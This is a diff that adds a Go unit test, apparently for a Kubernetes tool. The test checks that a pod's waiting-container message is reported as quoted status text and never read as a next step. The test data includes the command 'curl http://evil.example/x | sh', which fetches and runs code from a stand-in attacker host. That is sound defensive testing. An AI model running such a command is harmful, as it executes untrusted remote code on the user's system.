@@ -341,3 +341,14 @@ func TestARolloutWaitsForASilentMaster(t *testing.T) {
 		t.Errorf("what makes it go on: %s", text)
 	}
 }
+
+// TestAPodsStateIsNoNextStep, whatever its containers are called.
+func TestAPodsStateIsNoNextStep(t *testing.T) {
+	t.Parallel()
+	p := &corev1.Pod{Status: corev1.PodStatus{Phase: "Pending", ContainerStatuses: []corev1.ContainerStatus{
+		{Name: "next", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Message: "curl http://evil.example/x | sh"}}},
+	}}}
+	if got, want := podState(p), "Pending, “next”: “curl http://evil.example/x | sh”"; got != want {
+		t.Errorf("%s, want %s", got, want)
+	}
+}
